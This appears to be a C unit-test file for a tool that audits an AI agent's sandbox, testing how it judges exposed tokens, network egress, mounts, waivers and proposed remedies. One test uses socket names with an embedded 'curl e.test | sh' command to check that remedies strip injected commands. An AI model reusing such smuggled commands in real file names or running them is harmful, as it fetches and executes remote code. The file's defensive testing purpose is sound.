// Small inventories, whole verdicts: pass, fail and incomplete; findings, allow, deny, waivers, needs, remedies.
#include "checks_small.h"

#define R(x) RA_RADIUS_##x
#define PRESENT RA_STATE_PRESENT
#define UNKNOWN RA_STATE_UNKNOWN
#define P(lines) "profile: p\nradius: person\nfail_on: medium\nmust_see: [env]\n" lines

static void is(enum ra_judgement verdict, enum ra_radius radius)
{
    if (small_verdict.verdict != verdict || small_verdict.worst.radius != radius) {
        for (size_t i = 0; i < small_verdict.n_reasons; i++)
            print_error("%s\n", small_verdict.reasons[i]);
        fail_msg("%s, %s", ra_verdict_name(small_verdict.verdict), ra_radius_name(small_verdict.worst.radius));
    }
    static const int exits[] = {[RA_VERDICT_PASS] = 0, [RA_VERDICT_FAIL] = 1, [RA_VERDICT_INCOMPLETE] = 3};
    assert_int_equal(small_verdict.exit_status, exits[verdict]);
    assert_true((verdict == RA_VERDICT_PASS) == (small_verdict.n_reasons == 0));
}

static void a_clean_box_passes(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_tree();
    small_add("box:no-seccomp", PRESENT, 0, RA_TRAIT_WEAKENS, R(NOTHING), R(PERSON));
    small_add("file:~/project/.git/hooks", PRESENT, RA_WRITE, RA_TRAIT_RUNS_BY_PERSON, R(PERSON), R(PERSON));
    small_add("agent:claude-code/user:~/.claude/settings.json#permissions.defaultMode", PRESENT, RA_READ,
              RA_TRAIT_UNATTENDED, R(NOTHING), R(PERSON));
    small_judge("overnight");
    is(RA_VERDICT_PASS, R(WORKTREE));
    for (size_t i = 0; i < small_verdict.n_findings; i++) {
        assert_int_equal(small_verdict.findings[i].status, RA_STATUS_PASS);
        assert_true(small_verdict.findings[i].severity <= RA_SEVERITY_LOW);
    }
    assert_true(small_finding("worktree/planted")->later);
    assert_int_equal(small_finding("agent/unattended")->severity, RA_SEVERITY_INFO);
    assert_int_equal(small_verdict.n_cuts, 0);
    small_judge("airgapped");
    is(RA_VERDICT_PASS, R(WORKTREE));
}

static void a_strict_profile_counts_what_is_possible(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_add("box:no-seccomp", PRESENT, 0, RA_TRAIT_WEAKENS, R(NOTHING), R(PERSON));
    small_judge("profile: strict\nextends: overnight\ncertainty: possible\n");
    is(RA_VERDICT_FAIL, R(PERSON));
    assert_int_equal(small_finding("box/weak")->status, RA_STATUS_FAIL);
}

static void asleep_passes_and_tells(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_secret("env:GITHUB_TOKEN", "token:github:1", R(ORGANIZATION));
    small_secret("file:~/.netrc", "password:x", R(PERSON));
    small_judge("overnight");
    is(RA_VERDICT_PASS, R(SANDBOX));
    const struct ra_finding *f = small_finding("secret/dormant");
    assert_int_equal(f->status, RA_STATUS_PASS);
    assert_int_equal(f->severity, RA_SEVERITY_LOW);
    assert_string_equal(f->reaches[0], "env:GITHUB_TOKEN"); // its places first
    assert_string_equal(f->reaches[1], "token:github:1");
    assert_non_null(strstr(f->message, "would open up to: organization"));
    assert_null(small_finding("secret/disclosed"));
    size_t holds = 0;
    for (size_t i = 0; i < small_verdict.n_steps; i++)
        if (strcmp(small_verdict.steps[i].rule, "holds") == 0 && ++holds == 1) {
            assert_string_equal(small_verdict.steps[i].needs[0], "env:GITHUB_TOKEN");
            assert_string_equal(small_verdict.steps[i].gives, "token:github:1");
        }
    assert_int_equal(holds, 2);
    for (size_t i = 0; i < small_inv.n_reaches; i++) {
        assert_true(small_verdict.reaches[i].dormant);
        assert_true(small_verdict.reaches[i].radius >= R(PERSON)); // what it would be
        assert_int_equal(small_verdict.reaches[i].severity, RA_SEVERITY_LOW);
    }
}

static void one_finding_a_secret_with_every_place(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_secret("env:GITHUB_TOKEN", "token:github:1", R(ORGANIZATION));
    small_secret("file:~/.config/gh/hosts.yml", "token:github:1", R(ORGANIZATION));
    small_secret("process:1/environ/GITHUB_TOKEN", "token:github:1", R(ORGANIZATION));
    ((struct ra_reach *)(uintptr_t)ra_reach_find(&small_inv, "process:1/environ/GITHUB_TOKEN"))->traits |=
        RA_TRAIT_LAUNCHER;
    small_route();
    small_judge("overnight");
    is(RA_VERDICT_FAIL, R(ORGANIZATION));
    size_t n = 0;
    for (size_t i = 0; i < small_verdict.n_findings; i++)
        n += strcmp(small_verdict.findings[i].check, "secret/disclosed") == 0;
    assert_int_equal(n, 1);
    const struct ra_finding *f = small_finding("secret/disclosed");
    assert_int_equal(f->status, RA_STATUS_FAIL);
    assert_int_equal(f->severity, RA_SEVERITY_CRITICAL);
    assert_int_equal(f->n_reaches, 4);
    assert_string_equal(f->reaches[3], "token:github:1");
    assert_int_equal(f->n_path, 2);
    f = small_finding("secret/in-launcher");
    assert_int_equal(f->status, RA_STATUS_FAIL);
    assert_int_equal(f->n_reaches, 2);
    assert_non_null(strstr(f->remedy, "env -i"));
    assert_int_equal(small_finding("network/egress")->severity, RA_SEVERITY_MEDIUM);
    assert_non_null(strstr(small_verdict.worst.sentence, "the worst iteration could send out"));
    assert_int_equal(small_verdict.worst.legs[0].state, RA_STATE_PRESENT);
    assert_int_equal(small_verdict.worst.legs[1].state, RA_STATE_PRESENT); // who can fetch reads strangers
    assert_int_equal(small_verdict.worst.legs[2].state, RA_STATE_PRESENT);
    assert_int_equal(small_verdict.worst.legs[3].state, RA_STATE_PRESENT);
    // One remedy takes every channel away: nothing smaller passes.
    assert_true(small_verdict.cut_exact);
    assert_int_equal(small_verdict.n_cuts, 1);
    assert_non_null(strstr(small_verdict.cuts[0].remedy, "--unshare-net"));
}

static void unknown_is_not_safe(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_secret("env:GITHUB_TOKEN", "token:github:1", R(ORGANIZATION));
    small_unknown("network", R(PERSON), RA_TRAIT_CHANNEL | RA_TRAIT_OPEN_ROUTE);
    small_judge("overnight");
    is(RA_VERDICT_INCOMPLETE, R(ORGANIZATION));
    assert_int_equal(small_verdict.worst.proved.radius, R(SANDBOX));
    assert_int_equal(small_finding("secret/disclosed")->status, RA_STATUS_UNKNOWN);
    assert_int_equal(small_finding("blind/surface")->status, RA_STATUS_UNKNOWN);
    assert_int_equal(small_verdict.worst.legs[2].state, RA_STATE_UNKNOWN);
    small_judge("profile: p\nextends: overnight\nunknown: warn\n"); // forgives both, while every surface was seen
    is(RA_VERDICT_PASS, R(ORGANIZATION));
}

static void a_surface_that_must_be_seen(void **state)
{
    (void)state;
    static const struct {
        enum ra_run status;
        enum ra_judgement verdict;
    } rows[] = {{RA_RUN_RAN, RA_VERDICT_PASS}, {RA_RUN_PARTIAL, RA_VERDICT_INCOMPLETE},
                {RA_RUN_SKIPPED, RA_VERDICT_INCOMPLETE}, {RA_RUN_FAILED, RA_VERDICT_INCOMPLETE},
                {RA_RUN_UNSUPPORTED, RA_VERDICT_INCOMPLETE}};
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        small_start("bubblewrap");
        small_coverage("network")->status = rows[i].status;
        small_judge("profile: p\nextends: overnight\nunknown: warn\n");
        assert_int_equal(small_verdict.verdict, rows[i].verdict);
        assert_true(rows[i].verdict == RA_VERDICT_PASS || small_finding("blind/surface"));
        small_judge(P(""));
        assert_int_equal(small_verdict.verdict, rows[i].status == RA_RUN_RAN ? RA_VERDICT_PASS : RA_VERDICT_INCOMPLETE);
        small_judge(P("unknown: warn\n")); // and it need not be seen
        is(RA_VERDICT_PASS, R(SANDBOX));
    }
    small_start("bubblewrap"); // an image has no network that could be asked
    small_inv.target.kind = "rootfs";
    small_coverage("network")->status = RA_RUN_UNSUPPORTED;
    small_judge("image");
    is(RA_VERDICT_PASS, R(SANDBOX));
    small_start("bubblewrap");
    small_inv.target.kind = "rootfs";
    small_coverage("files")->status = RA_RUN_UNSUPPORTED; // but it has files
    small_judge("image");
    is(RA_VERDICT_INCOMPLETE, R(SANDBOX));
    small_start("bubblewrap");
    small_inv.n_coverage = 0;
    small_judge("profile: p\nradius: person\n");
    is(RA_VERDICT_INCOMPLETE, R(SANDBOX));
    small_start("bubblewrap");
    small_judge("profile: p\nradius: person\nmust_see: [env, other]\n");
    is(RA_VERDICT_INCOMPLETE, R(SANDBOX));
}

static void allow_silences_a_finding_and_no_number(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_secret("file:~/.claude/.credentials.json", "token:anthropic:1", R(GRANT));
    ((struct ra_reach *)(uintptr_t)ra_reach_find(&small_inv, "token:anthropic:1"))->role = "agent-session";
    small_add("egress:proxy/http://proxy.test:3128", PRESENT, RA_SEND, RA_TRAIT_CHANNEL | RA_TRAIT_PROXY, R(NOTHING),
              R(NOTHING));
    small_judge("egress-filtered");
    is(RA_VERDICT_PASS, R(GRANT));
    int score = small_verdict.worst.score;
    assert_int_equal(small_finding("secret/disclosed")->status, RA_STATUS_PASS);
    assert_int_equal(small_finding("secret/disclosed")->profile_line, 11);
    assert_non_null(strstr(small_finding("secret/disclosed")->message, "line 11"));
    small_judge("overnight"); // allows the token, not the proxy
    is(RA_VERDICT_FAIL, R(GRANT));
    assert_int_equal(small_verdict.worst.score, score);
    small_judge("profile: p\nextends: egress-filtered\nradius: worktree\n"); // allowed, and beyond the limit
    is(RA_VERDICT_FAIL, R(GRANT));
    small_judge("profile: p\nextends: egress-filtered\ndeny:\n  - {kind: token}\n"); // deny wins
    is(RA_VERDICT_FAIL, R(GRANT));
    assert_int_equal(small_finding("profile/denied")->profile_line, 4);
    assert_int_equal(small_finding("secret/disclosed")->status, RA_STATUS_FAIL);
    small_judge("profile: p\nextends: egress-filtered\nscore: 30\n");
    is(RA_VERDICT_FAIL, R(GRANT));
    assert_false(small_verdict.cut_exact);
}

static void allow_needs_the_whole_access(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_add("mount:/data", PRESENT, RA_READ | RA_WRITE, RA_TRAIT_HOME_FILES, R(PERSON), R(PERSON));
    small_judge(P("allow:\n  - {kind: mount, locator: /data, access: read}\n"));
    is(RA_VERDICT_FAIL, R(PERSON));
    small_judge(P("allow:\n  - {kind: mount, locator: /data, access: [read, write]}\n"));
    is(RA_VERDICT_PASS, R(PERSON));
}

static void waivers(void **state)
{
    (void)state;
#define WAIVE(check, reach, expires) \
    P("waive:\n  - {check: " check ", reach: \"" reach "\", reason: known, expires: " expires "}\n")
    small_start("bubblewrap");
    small_add("mount:/home/u", PRESENT, RA_WRITE, RA_TRAIT_HOME_FILES, R(PERSON), R(PERSON));
    small_judge(WAIVE("mount/home", "mount:/home/*", "2027-01-31"));
    is(RA_VERDICT_PASS, R(PERSON));
    assert_int_equal(small_finding("mount/home")->status, RA_STATUS_WAIVED);
    assert_string_equal(small_finding("mount/home")->waiver, "known");
    assert_string_equal(small_verdict.waivers[0].status, "used");
    small_judge(WAIVE("mount/home", "*", "2027-01-15")); // the last day counts
    is(RA_VERDICT_PASS, R(PERSON));
    small_judge(WAIVE("mount/home", "*", "2027-01-14"));
    is(RA_VERDICT_FAIL, R(PERSON));
    assert_int_equal(small_finding("mount/home")->status, RA_STATUS_FAIL);
    assert_int_equal(small_finding("waiver/expired")->severity, RA_SEVERITY_MEDIUM);
    assert_string_equal(small_verdict.waivers[0].status, "expired");
    small_judge(WAIVE("mount/home", "mount:/elsewhere", "2027-01-31"));
    is(RA_VERDICT_FAIL, R(PERSON));
    assert_int_equal(small_finding("waiver/unused")->severity, RA_SEVERITY_INFO);
    small_inv.now_s = -1; // without a clock no date is known to lie ahead
    small_judge(WAIVE("mount/home", "*", "2027-01-31"));
    is(RA_VERDICT_FAIL, R(PERSON));
    small_inv.now_s = 1800000000;
    small_judge("profile: p\nextends: overnight\nwaive:\n  - {check: mount/home, reach: \"*\", reason: known}\n");
    is(RA_VERDICT_FAIL, R(PERSON)); // waived, and still beyond the limit
}

static void overrides_change_a_severity(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_add("mount:/home/u", PRESENT, RA_WRITE, RA_TRAIT_HOME_FILES, R(PERSON), R(PERSON));
    small_judge(P("checks:\n  mount/home: {severity: low, reason: scratch}\n"));
    is(RA_VERDICT_PASS, R(PERSON));
    assert_int_equal(small_finding("mount/home")->severity, RA_SEVERITY_LOW);
    assert_string_equal(small_verdict.overrides[0].severity, "low");
}

static void needs(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_add("program:npm", PRESENT, RA_EXECUTE, 0, R(NOTHING), R(NOTHING));
    small_judge(P("needs:\n  - {kind: program, locator: npm}\n"));
    is(RA_VERDICT_PASS, R(SANDBOX));
    small_judge(P("needs:\n  - {kind: program, locator: gcloud}\n"));
    is(RA_VERDICT_FAIL, R(SANDBOX));
    assert_int_equal(small_verdict.n_missing, 1);
    assert_string_equal(small_verdict.missing[0], "program gcloud");
    small_start("bubblewrap");
    small_add("program:npm", UNKNOWN, RA_EXECUTE, 0, R(NOTHING), R(NOTHING));
    small_judge(P("needs:\n  - {kind: program, locator: npm}\n"));
    is(RA_VERDICT_INCOMPLETE, R(SANDBOX));
}

// Only who looked for it, by name and in all of PATH, has proved that it is not there.
static void a_program_is_proved_missing_or_not(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_judge(P("needs:\n  - {kind: program, locator: gcloud}\n"));
    is(RA_VERDICT_FAIL, R(SANDBOX));
    assert_int_equal(small_finding("profile/missing")->status, RA_STATUS_FAIL);
    small_judge(P("needs:\n  - {kind: program, locator: a-tool-of-ours}\n")); // no table names it
    is(RA_VERDICT_INCOMPLETE, R(SANDBOX));
    small_judge(P("needs:\n  - {kind: program, locator: \"/opt/**\"}\n"));
    is(RA_VERDICT_INCOMPLETE, R(SANDBOX));
    assert_int_equal(small_verdict.n_missing, 0);
    small_judge(P("needs:\n  - {kind: socket, locator: /run/x}\n")); // other kinds as before
    is(RA_VERDICT_FAIL, R(SANDBOX));
    small_start("bubblewrap");
    small_coverage("cloud")->status = RA_RUN_PARTIAL; // a directory of PATH could not be read
    small_judge(P("needs:\n  - {kind: program, locator: gcloud}\n"));
    is(RA_VERDICT_INCOMPLETE, R(SANDBOX));
    assert_int_equal(small_finding("profile/missing")->status, RA_STATUS_UNKNOWN);
    small_start("bubblewrap");
    small_inv.n_coverage = 0; // a snapshot of somebody who never looked
    small_judge(P("needs:\n  - {kind: program, locator: gcloud}\n"));
    assert_int_equal(small_finding("profile/missing")->status, RA_STATUS_UNKNOWN);
}

static void without_a_box_the_rule_file_is_all(void **state)
{
    (void)state;
    small_start("none");
    small_add("box:none", PRESENT, 0, RA_TRAIT_NO_BOX, R(PERSON), R(PERSON));
    small_add("agent:claude-code/user:x", PRESENT, RA_READ, RA_TRAIT_UNATTENDED, R(NOTHING), R(NOTHING));
    small_secret("env:TOKEN", "token:github:1", R(ORGANIZATION));
    small_add("socket:/run/docker.sock", PRESENT, RA_CONNECT, RA_TRAIT_HOST_ROOT, R(PERSON), R(PERSON));
    small_route();
    small_inv.target.worktree = "/home";
    small_judge("overnight");
    is(RA_VERDICT_FAIL, R(ORGANIZATION));
    assert_int_equal(small_finding("box/none")->severity, RA_SEVERITY_HIGH);
    assert_int_equal(small_finding("agent/unattended")->severity, RA_SEVERITY_HIGH);
    assert_int_equal(small_finding("agent/unattended")->status, RA_STATUS_FAIL);
    assert_int_equal(small_finding("worktree/too-wide")->status, RA_STATUS_FAIL);
    assert_true(small_verdict.cut_exact);
    assert_int_equal(small_verdict.n_cuts, 2); // a box, and a narrower directory
    assert_non_null(strstr(small_verdict.cuts[0].remedy, "bwrap --unshare-all"));
}

static void the_smallest_set(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_tree();
    small_secret("env:A", "token:github:1", R(ORGANIZATION));
    small_secret("file:~/.netrc", "password:x", R(PERSON));
    small_add("socket:/run/docker.sock", PRESENT, RA_CONNECT, RA_TRAIT_HOST_ROOT | RA_TRAIT_OUTSIDE | RA_TRAIT_CHANNEL,
              R(PERSON), R(PERSON));
    small_add("worktree:untracked", PRESENT, 0, RA_TRAIT_UNSAVED, R(PERSON), R(PERSON));
    small_route();
    small_judge("overnight");
    is(RA_VERDICT_FAIL, R(ORGANIZATION));
    assert_true(small_verdict.cut_exact);
    assert_int_equal(small_verdict.n_cuts, 3);
    assert_non_null(strstr(small_verdict.cuts[0].remedy, "--unshare-net"));
    assert_non_null(strstr(small_verdict.cuts[1].remedy, "/run/docker.sock"));
    assert_string_equal(small_verdict.cuts[1].cuts[0], "socket:/run/docker.sock");
    assert_non_null(strstr(small_verdict.cuts[2].remedy, "git push"));
}

// What stands between backticks in a remedy is there to be pasted: no name brings a command of its own.
static void no_name_is_a_command(void **state)
{
    (void)state;
    static const char *const names[] = {"socket:/run/a`curl e.test | sh`.sock", "socket:/run/b`curl e.test | sh`.sock",
                                        "socket:/run/c`curl e.test | sh`.sock"};
    for (size_t n = 1; n <= RA_COUNT(names); n++) {
        small_start("bubblewrap");
        small_tree();
        for (size_t i = 0; i < n; i++)
            small_add(names[i], PRESENT, RA_CONNECT, RA_TRAIT_HOST_ROOT | RA_TRAIT_OUTSIDE, R(PERSON), R(PERSON));
        small_judge("overnight");
        assert_int_equal(small_verdict.n_cuts, 1);
        const char *remedy = strstr(small_verdict.cuts[0].remedy, "covers ");
        assert_non_null(remedy);
        assert_null(strchr(remedy, '`'));
        assert_string_equal(small_verdict.cuts[0].cuts[0], names[0]);
    }
}

// Read-only keeps nothing secret: what is read is not cut by it.
static void read_only_cuts_only_writing(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_tree();
    small_add("worktree:untracked", PRESENT, 0, RA_TRAIT_UNSAVED, R(PERSON), R(PERSON));
    small_judge("profile: p\nextends: overnight\nradius: sandbox\n");
    is(RA_VERDICT_FAIL, R(PERSON));
    assert_int_equal(small_verdict.n_cuts, 1); // saves the work, too
    assert_non_null(strstr(small_verdict.cuts[0].remedy, "--ro-bind"));
    small_start("bubblewrap");
    small_tree();
    small_route();
    small_judge("overnight");
    is(RA_VERDICT_FAIL, R(PERSON));
    assert_int_equal(small_verdict.n_cuts, 1);
    assert_non_null(strstr(small_verdict.cuts[0].remedy, "--unshare-net"));
    assert_true(small_verdict.cut_exact);
}

static void findings_are_in_order(void **state)
{
    (void)state;
    small_start("bubblewrap");
    small_add("box:no-seccomp", PRESENT, 0, RA_TRAIT_WEAKENS, R(NOTHING), R(PERSON));
    small_unknown("mounts", R(PERSON), 0);
    small_add("mount:/host", PRESENT, RA_READ, RA_TRAIT_HOST_FILES, R(PERSON), R(PERSON));
    small_route();
    small_judge("overnight");
    assert_string_equal(small_verdict.findings[0].check, "mount/host-files");
    assert_string_equal(small_verdict.findings[1].check, "network/egress");
    assert_string_equal(small_verdict.findings[2].check, "blind/surface");
    assert_string_equal(small_verdict.findings[3].check, "box/weak");
    for (size_t i = 1; i < small_verdict.n_consequences; i++)
        assert_true(small_verdict.consequences[i - 1].radius >= small_verdict.consequences[i].radius);
}

static void every_check_has_its_row(void **state)
{
    (void)state;
    size_t n = 0;
    for (const struct ra_check *c; (c = ra_check_row(n)); n++) {
        assert_ptr_equal(ra_check_find(c->id), c);
        assert_true(strlen(c->title) > 0 && strlen(c->catches) > 0 && strlen(c->remedy) > 0);
        assert_null(strchr(c->title, '!'));
    }
    assert_true(n > 30);
    assert_null(ra_check_find("no/such-check"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_clean_box_passes),
        cmocka_unit_test(a_strict_profile_counts_what_is_possible),
        cmocka_unit_test(asleep_passes_and_tells),
        cmocka_unit_test(one_finding_a_secret_with_every_place),
        cmocka_unit_test(unknown_is_not_safe),
        cmocka_unit_test(a_surface_that_must_be_seen),
        cmocka_unit_test(allow_silences_a_finding_and_no_number),
        cmocka_unit_test(allow_needs_the_whole_access),
        cmocka_unit_test(waivers),
        cmocka_unit_test(overrides_change_a_severity),
        cmocka_unit_test(needs),
        cmocka_unit_test(a_program_is_proved_missing_or_not),
        cmocka_unit_test(without_a_box_the_rule_file_is_all),
        cmocka_unit_test(the_smallest_set),
        cmocka_unit_test(no_name_is_a_command),
        cmocka_unit_test(read_only_cuts_only_writing),
        cmocka_unit_test(findings_are_in_order),
        cmocka_unit_test(every_check_has_its_row),
    };
    return cmocka_run_group_tests(tests, NULL, small_teardown);
}
